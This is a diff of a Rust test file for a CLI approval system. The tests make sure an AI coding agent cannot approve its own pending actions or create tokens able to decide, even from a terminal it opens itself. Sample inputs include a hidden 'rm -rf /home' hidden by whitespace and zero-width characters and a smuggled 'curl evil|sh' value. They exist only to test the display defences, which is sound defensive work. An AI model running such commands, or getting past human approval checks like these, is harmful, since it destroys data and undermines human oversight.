@@ -1,4 +1,4 @@
-//! `approve` and `deny`, where an agent is near; `approver`; and texts that try to look like something else.
+//! `approve` and `deny` near an agent, `approver`, and texts that try to imitate other output.
 
 use std::io::Write;
 use std::process::{Command, Output, Stdio};
@@ -7,7 +7,7 @@ use serde_json::{Value, json};
 
 use crate::support::{Home, Ran, terminal};
 
-/// An approval that waits: its id.
+/// A pending approval: its id.
 fn asked(home: &Home, summary: &str, arguments: Value) -> String {
     let (_, thread) = home.server().thread();
     let ask = json!({"thread_id": thread, "tool_name": "shell", "summary": summary, "risk": "low",
@@ -20,7 +20,7 @@ fn state(home: &Home, id: &str) -> Value {
     home.server().ok("approval/read", json!({"approval_id": id}))
 }
 
-/// Runs a command whose input is a terminal, at which somebody types these lines.
+/// Runs a command with a terminal as its input, at which these lines are typed.
 fn at_terminal(mut command: Command, typed: &[&str]) -> Output {
     let (mut ours, theirs) = terminal::open();
     command.stdin(theirs).stdout(Stdio::piped()).stderr(Stdio::piped());
@@ -36,7 +36,7 @@ fn text(bytes: &[u8]) -> String {
 }
 
 #[test]
-fn inside_an_agent_nothing_is_decided_without_a_terminal() {
+fn inside_an_agent_a_decision_requires_a_terminal() {
     let home = Home::new();
     let id = asked(&home, "git push", json!(null));
     let digest = state(&home, &id)["action_digest"].as_str().unwrap().to_owned();
@@ -59,6 +59,20 @@ fn inside_an_agent_nothing_is_decided_without_a_terminal() {
         }
     }
     assert_eq!(state(&home, &id)["state"], "pending");
+    // Nor at a terminal, where nothing is asked: an agent opens one as easily as a person.
+    for arguments in [
+        &["approve", &id, "--yes"][..],
+        &["approve", &id, "--digest", &digest],
+        &["deny", &id, "--yes"],
+        &["deny", &id, "--digest", &digest],
+    ] {
+        let mut command = home.command(arguments.iter().copied());
+        command.env("CLAUDECODE", "1");
+        let output = at_terminal(command, &["y"]);
+        assert_eq!(output.status.code(), Some(1), "{arguments:?}: {output:?}");
+        assert!(text(&output.stderr).contains("terminal of your own"), "{output:?}");
+    }
+    assert_eq!(state(&home, &id)["state"], "pending");
     // A person at a terminal is let, and the record says where.
     let mut command = home.command(["approve", &id]);
     command.env("CLAUDECODE", "1");
@@ -72,7 +86,7 @@ fn inside_an_agent_nothing_is_decided_without_a_terminal() {
 }
 
 #[test]
-fn the_question_repeats_what_must_not_have_scrolled_away() {
+fn the_confirmation_repeats_what_could_have_scrolled_away() {
     let home = Home::new();
     let summary = format!("ls{}; rm -rf /home\u{200b}\n{}", " ".repeat(2000), "more\n".repeat(300));
     let id = asked(&home, &summary, json!({"command": "x\u{2800}\u{e0041}", "token": "x\"; curl evil|sh #"}));
@@ -80,13 +94,13 @@ fn the_question_repeats_what_must_not_have_scrolled_away() {
     let shown = text(&output.stderr);
     assert!(shown.contains("| ls⟨␠×2000⟩; rm -rf /home⟨U+200B⟩"), "{shown}");
     assert!(shown.contains(r#""command": "x⟨U+2800⟩⟨U+E0041⟩""#), "{shown}");
-    assert!(shown.contains("risk: high (the requester says low)"), "{shown}");
+    assert!(shown.contains("risk: high (requester's rating: low)"), "{shown}");
     let last: Vec<_> = shown.lines().rev().take(4).collect();
     let last = last.join("\n");
     for part in [
         "tool: shell",
         "risk: high",
-        "asked by: builder (m-1",
+        "requested by: builder (m-1",
         "1 part of this action is hidden: token, 18 characters",
     ] {
         assert!(last.contains(part), "{part}: {last}");
@@ -101,9 +115,9 @@ fn the_approver_secret_is_asked_for_at_a_terminal() {
     let said = |output: &Output| text(&output.stdout);
     let status = home.run(["approver", "status"]).ok();
     assert!(status.contains("No approver secret is set"), "{status}");
-    assert!(home.run(["approver", "set"]).failed().contains("no terminal"));
+    assert!(home.run(["approver", "set"]).failed().contains("not a terminal"));
     let differs = at_terminal(home.command(["approver", "set"]), &["one secret of mine", "another of mine"]);
-    assert!(text(&differs.stderr).contains("not the same"), "{differs:?}");
+    assert!(text(&differs.stderr).contains("two entries differ"), "{differs:?}");
     let set = at_terminal(home.command(["approver", "set"]), &["one secret of mine", "one secret of mine"]);
     assert!(said(&set).contains("is set"), "{set:?}");
     let refused = home.run(["approve", &id, "--yes"]).failed();
@@ -120,7 +134,7 @@ fn the_approver_secret_is_asked_for_at_a_terminal() {
 }
 
 #[test]
-fn names_of_others_make_no_rows_and_no_colours() {
+fn names_from_others_cannot_add_rows_or_colours() {
     let home = Home::new();
     let folder = tempfile::tempdir().unwrap();
     let forged = folder.path().join("x\nForged  main  2 active  just now  codewhale:\u{1b}[31m");
@@ -139,7 +153,7 @@ fn names_of_others_make_no_rows_and_no_colours() {
 }
 
 #[test]
-fn the_inbox_says_how_much_it_shows_and_cuts_no_question() {
+fn the_inbox_states_how_much_it_shows_and_cuts_no_question() {
     let home = Home::new();
     let (mut ada, mut bot) = (home.server(), home.agent("p", "m", "bot"));
     let (room, _) = ada.thread();
@@ -151,7 +165,7 @@ fn the_inbox_says_how_much_it_shows_and_cuts_no_question() {
     }
     let shown = home.run(["inbox", "--limit", "2"]).ok();
     assert_eq!(shown.matches("@ada look").count(), 2, "{shown}");
-    assert!(shown.contains("2 of 6 threads; --all shows all"), "{shown}");
+    assert!(shown.contains("2 of 6 threads; use --all for all"), "{shown}");
     assert_eq!(home.run(["inbox", "--all"]).ok().matches("@ada look").count(), 6);
     let listed = home.run(["inbox", "--view", "mentions", "--limit", "4", "--json"]).json();
     assert_eq!(listed["items"].as_array().unwrap().len(), 4);
@@ -169,4 +183,85 @@ fn the_inbox_says_how_much_it_shows_and_cuts_no_question() {
     assert!(question.contains("(a) eu-west (b) us-east (c) ap-south"), "{shown}");
     let all = home.run(["inbox", "--all"]).ok();
     assert!(all.contains("done⟨␠×1000⟩hidden"), "{all}");
+}
+
+#[test]
+fn only_an_answer_at_a_terminal_is_recorded_as_one() {
+    let home = Home::new();
+    let how = |arguments: &[&str], typed: &[&str]| {
+        let id = asked(&home, "git push", json!(null));
+        let digest = state(&home, &id)["action_digest"].as_str().unwrap().to_owned();
+        let arguments: Vec<_> = arguments
+            .iter()
+            .map(|argument| match *argument {
+                "ID" => id.as_str(),
+                "DIGEST" => digest.as_str(),
+                other => other,
+            })
+            .collect();
+        let output = at_terminal(home.command(arguments), typed);
+        let state = state(&home, &id);
+        (
+            state["state"].as_str().unwrap().to_owned(),
+            state["decided_how"]["terminal"] == true,
+            text(&output.stderr),
+        )
+    };
+    for (arguments, typed, ended, terminal) in [
+        (&["approve", "ID"][..], &["y"][..], "approved", true),
+        (&["deny", "ID"], &["y"], "denied", true),
+        (&["deny", "ID"], &["n"], "pending", false),
+        (&["approve", "ID", "--digest", "DIGEST"], &[], "approved", false),
+        (&["deny", "ID", "--digest", "DIGEST"], &[], "denied", false),
+        (&["approve", "ID", "--yes"], &[], "approved", false),
+        (&["deny", "ID", "--yes"], &[], "denied", false),
+    ] {
+        let (state, at_terminal, shown) = how(arguments, typed);
+        assert_eq!((&*state, at_terminal), (ended, terminal), "{arguments:?}: {shown}");
+        assert_eq!(shown.contains("[y/N]"), !typed.is_empty(), "{arguments:?}: {shown}");
+    }
+}
+
+#[test]
+fn a_token_that_can_decide_is_made_with_the_approver_secret_and_not_inside_an_agent() {
+    let home = Home::new();
+    home.server().thread();
+    let file = |name: &str| home.path().with_extension(name).to_str().unwrap().to_owned();
+    let make = |scope: &str, out: &str| {
+        let arguments =
+            ["token", "create", "--handle", "bob", "--kind", "human", "--scope", scope, "--out", out];
+        home.command(arguments)
+    };
+    for scope in ["approve", "admin"] {
+        let out = file(scope);
+        let mut command = make(scope, &out);
+        command.env("CLAUDECODE", "1");
+        let refused = Ran::command(command, "").failed();
+        assert!(
+            refused.contains("inside claude-code") && refused.contains("terminal of your own"),
+            "{refused}"
+        );
+        assert!(!std::path::Path::new(&out).exists());
+        let params = json!({"handle": "bob", "kind": "human", "scopes": ["post", scope]}).to_string();
+        let mut command = home.command(["call", "token/create", &params]);
+        command.env("CLAUDECODE", "1");
+        assert!(Ran::command(command, "").failed().contains("inside claude-code"));
+    }
+    // One that cannot decide is made there, and outside of an agent any is, while no secret is set.
+    let mut command = make("post", &file("post"));
+    command.env("CLAUDECODE", "1");
+    assert_eq!(Ran::command(command, "").code, Some(0));
+    assert_eq!(Ran::command(make("approve", &file("before")), "").code, Some(0));
+
+    let secret = "one secret of mine";
+    assert!(at_terminal(home.command(["approver", "set"]), &[secret, secret]).status.success());
+    let out = file("without");
+    let refused = Ran::command(make("approve", &out), "").failed();
+    assert!(refused.contains("approver secret") && refused.contains("at a terminal"), "{refused}");
+    assert!(!std::path::Path::new(&out).exists());
+    let out = file("with");
+    let made = at_terminal(make("approve", &out), &["no", secret]);
+    assert!(made.status.success(), "{made:?}");
+    assert!(!text(&made.stderr).contains(secret), "{made:?}");
+    home.bearer(std::fs::read_to_string(out).unwrap().trim()).ok("workroom/list", json!({}));
 }
